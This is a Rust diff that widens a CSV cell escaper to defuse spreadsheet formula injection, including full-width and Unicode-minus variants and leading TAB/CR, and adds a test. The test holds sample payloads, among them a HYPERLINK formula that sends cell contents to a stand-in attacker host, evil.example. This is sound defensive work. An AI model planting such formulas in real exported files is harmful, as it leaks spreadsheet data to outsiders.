@@ -12,15 +12,33 @@ pub fn fold(s: &str) -> String {
     }
 }
 
-/// One CSV cell as Excel should read it: always quoted, quotes doubled, and a leading
-/// = + - @ defused with an apostrophe so a spreadsheet never runs it as a formula.
+/// One CSV cell as Excel should read it: always quoted, quotes doubled, and a cell that a
+/// spreadsheet could take for a formula defused with a leading apostrophe. A formula starts
+/// with `=`, `+`, `-` or `@` — also in their full-width forms (`＝＋－＠`, which Japanese input
+/// methods type and which NFKC folds to the ASCII ones) and the minus sign `−` — or with a TAB
+/// or CR that a spreadsheet skips before reading the rest.
 pub fn csv_cell(s: &str) -> String {
-    let s = if s.starts_with(['=', '+', '-', '@']) {
+    let s = if formula_like(s) {
         format!("'{s}")
     } else {
         s.to_owned()
     };
     format!("\"{}\"", s.replace('"', "\"\""))
+}
+
+fn formula_like(s: &str) -> bool {
+    let Some(first) = s.chars().next() else {
+        return false;
+    };
+    if matches!(first, '\t' | '\r' | '\u{2212}') {
+        return true;
+    }
+    let mut buf = [0u8; 4];
+    first
+        .encode_utf8(&mut buf)
+        .nfkc()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'))
 }
 
 /// `1788` → `1,788`.
@@ -68,6 +86,30 @@ pub fn note(note: &str) -> Result<Option<String>, String> {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_defused_in_every_width() {
+        use super::csv_cell;
+        for formula in [
+            "=1+1",
+            "＝HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
+            "＋1",
+            "－1",
+            "−1",
+            "＠SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert!(
+                csv_cell(formula).starts_with("\"'"),
+                "{formula:?} left as {}",
+                csv_cell(formula)
+            );
+        }
+        assert_eq!(csv_cell("改善方針: 来年度"), "\"改善方針: 来年度\"");
+        assert_eq!(csv_cell(""), "\"\"");
+        assert_eq!(csv_cell("１２３"), "\"１２３\"");
+    }
+
     #[test]
     fn full_width_and_half_width_forms_fold_together() {
         assert_eq!(super::fold("ＶＰＮ装置"), "vpn装置");
